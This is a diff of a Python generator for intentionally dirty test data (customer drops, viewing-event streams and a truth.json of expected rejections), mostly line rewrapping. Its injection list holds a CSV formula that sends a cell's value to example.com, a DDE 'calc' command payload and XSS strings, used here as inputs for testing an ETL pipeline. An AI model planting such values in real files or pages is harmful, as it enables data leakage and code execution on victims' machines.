@@ -2,13 +2,13 @@
 
     python -m scripts.generate --customers 100000 --events 1000000 --seed 1 -o build/data
 
-One seed, one data set, byte by byte. Besides the files it says what it made dirty (``truth.json``): for each file
-how many rows there are, and for each reason how many of them must be rejected. Rows are written as they are made;
-what is kept is a count a file.
+One seed, one data set, byte by byte. Besides the files it says what it made dirty (``truth.json``): for
+each file how many rows there are, and for each reason how many of them must be rejected. Rows are written
+as they are made; what is kept is a count a file.
 
-Customers come as daily drops, whole each day, then once more as they were (a re-delivery) and once corrected.
-Events come as a stream delivers them: in files by hour of arrival, some a day late, some twice, with fields that
-were renamed and fields that are new.
+Customers come as daily drops, whole each day, then once more as they were (a re-delivery) and once
+corrected. Events come as a stream delivers them: in files by hour of arrival, some a day late, some twice,
+with fields that were renamed and fields that are new.
 """
 
 from __future__ import annotations
@@ -34,7 +34,7 @@ _COUNTRIES = ("NG", "SE", "FR", "RS", "TR", "SN", "HR", "JP", "ES", "IE", "US", 
 _DEVICES = ("phone", "tablet", "tv", "web")
 _TYPES = ("play", "pause", "resume", "stop", "complete")
 _INJECTIONS = (
-    "=HYPERLINK(\"https://example.com/\"&A1)",
+    '=HYPERLINK("https://example.com/"&A1)',
     "+1+1|' /C calc'!A0",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -49,7 +49,7 @@ _TITLES = 400
 
 @dataclass(slots=True)
 class Truth:
-    """What a file holds. A row with several faults is one rejected row, under the reason the ETL must give."""
+    """What a file holds: how many rows, and how many the ETL must reject for which reason."""
 
     key: str
     rows: int = 0
@@ -83,7 +83,9 @@ def customer_files(customers: int, seed: int, days: int = 2, dirt: float = 0.02)
     for day in range(days):
         yield _customer_file(customers, seed, day, f"{_day(day)}.csv", dirt)
     yield _customer_file(customers, seed, 0, f"{_day(0)}-again.csv", dirt)
-    yield _customer_file(max(1, customers // 50), seed, days - 1, f"{_day(days - 1)}-corrected.csv", 0.0, corrected=True)
+    yield _customer_file(
+        max(1, customers // 50), seed, days - 1, f"{_day(days - 1)}-corrected.csv", 0.0, corrected=True
+    )
 
 
 def _day(day: int) -> str:
@@ -190,13 +192,15 @@ def event_files(events: int, seed: int, customers: int, days: int = 4, dirt: flo
     for number in range(files):
         count = events // files + (number < events % files)
         begin = datetime.combine(FIRST_DAY, datetime.min.time(), UTC) + timedelta(hours=6 * number)
-        truth = Truth(f"incoming/stream/viewing_events/{begin:%Y/%m/%d/%H}/viewing-events-1-{begin:%Y-%m-%d-%H}.jsonl")
-        lines = _event_lines(truth, count, f"{seed}-{number}", begin, customers, dirt)
+        truth = Truth(
+            f"incoming/stream/viewing_events/{begin:%Y/%m/%d/%H}/viewing-events-1-{begin:%Y-%m-%d-%H}.jsonl"
+        )
+        lines = _event_lines(truth, count, f"{seed}-{number}", begin, customers=customers, dirt=dirt)
         yield truth, _chunks(lines, truth)
 
 
 def _event_lines(
-    truth: Truth, count: int, name: str, begin: datetime, customers: int, dirt: float
+    truth: Truth, count: int, name: str, begin: datetime, *, customers: int, dirt: float
 ) -> Iterator[bytes]:
     """The lines of one file: one in fifty is sent twice, one in a hundred is a day late."""
     rng = random.Random(f"events {name}")  # noqa: S311 - data, not a secret
@@ -311,7 +315,9 @@ def _chunks(lines: Iterator[bytes], truth: Truth) -> Iterator[bytes]:
 
 def main() -> int:
     """Write the files and ``truth.json`` into a folder."""
-    parser = argparse.ArgumentParser(prog="python -m scripts.generate", description="Make data, dirty on purpose.")
+    parser = argparse.ArgumentParser(
+        prog="python -m scripts.generate", description="Make data, dirty on purpose."
+    )
     parser.add_argument("--customers", type=int, default=1_000)
     parser.add_argument("--events", type=int, default=10_000)
     parser.add_argument("--seed", type=int, default=1)
@@ -333,7 +339,9 @@ def main() -> int:
                     out.write(chunk)
             truths.append(truth.as_document())
             print(f"generate: {path}: {truth.rows} rows", file=sys.stderr)
-    (options.out / "truth.json").write_text(json.dumps({"seed": options.seed, "files": truths}, indent=1) + "\n")
+    (options.out / "truth.json").write_text(
+        json.dumps({"seed": options.seed, "files": truths}, indent=1) + "\n"
+    )
     return 0
 
 
